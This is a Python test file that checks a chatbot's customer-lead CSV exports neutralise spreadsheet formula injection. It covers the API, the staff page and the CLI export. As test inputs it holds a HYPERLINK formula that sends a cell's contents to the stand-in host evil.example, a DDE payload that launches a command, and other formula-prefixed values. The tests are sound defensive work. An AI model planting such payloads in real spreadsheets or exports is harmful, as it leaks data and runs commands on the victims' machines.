"""CSV formula injection: customer text that Excel would run as a formula."""

from __future__ import annotations

import csv
import io

from store import conversations
from store.db import write_tx
from tests.security.helpers import add_staff, login, token

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'


def _lead(app, customer, psid: str, answers: dict, ref: str | None = None) -> None:
    customer(psid).says("hello")
    rt = app.extensions["barta"]
    db = rt.db()
    conv = conversations.by_psid(db, psid)
    import json

    with write_tx(db):
        db.execute(
            "UPDATE conversations SET answers = ?, source = ? WHERE id = ?",
            (json.dumps(answers), json.dumps({"ref": ref} if ref else {}), conv["id"]),
        )


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_formulas_in_answers_and_refs_are_neutralised_in_every_export(app, client, customer):
    _lead(app, customer, "7100000000000001", {"address": EVIL, "city": "@SUM(A1:A9)",
          "note": "+1+1", "minus": "-2+3", "tab": "\t=1", "cr": "\r=1", "phone": "01711223344"},
          ref="=cmd|' /C calc'!A0")  # fmt: skip
    api = client.get("/api/leads.csv", headers=token(app)).data
    workspace_client = app.test_client()
    login(workspace_client)
    page = workspace_client.get("/staff/leads.csv").data
    for data in (api, page):
        rows = _cells(data)
        header, row = rows[0], rows[1]
        cell = dict(zip(header, row, strict=True))
        assert cell["address"] == "'" + EVIL
        assert cell["city"] == "'@SUM(A1:A9)"
        assert cell["note"] == "'+1+1"
        assert cell["minus"] == "'-2+3"
        assert cell["tab"] == "'\t=1" and cell["cr"] == "'\r=1"
        assert cell["ref"].startswith("'=")
        # Excel shows '01711223344 as the text 01711223344: the leading 0 stays
        assert cell["phone"] == "'01711223344"
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_python_app_py_export_is_neutralised_too(app, customer, tmp_path, monkeypatch):
    _lead(app, customer, "7100000000000002", {"address": EVIL})
    monkeypatch.setenv("BOT_DB", app.config["BOT_DB"])
    monkeypatch.setenv("BOT_FLOWS", str(app.config["BOT_FLOWS"]))
    monkeypatch.setenv("SECRET_KEY", "x")
    from click.testing import CliRunner

    from bot.cli import cli

    out = tmp_path / "leads.csv"
    result = CliRunner().invoke(cli, ["export", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_bytes())
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert cell["address"] == "'" + EVIL


def test_numbers_stay_numbers(app, customer, client):
    add_staff(app)
    _lead(app, customer, "7100000000000003", {"budget": 25000, "minus": -5})
    rows = _cells(client.get("/api/leads.csv", headers=token(app)).data)
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert cell["budget"] == "25000" and cell["minus"] == "-5"
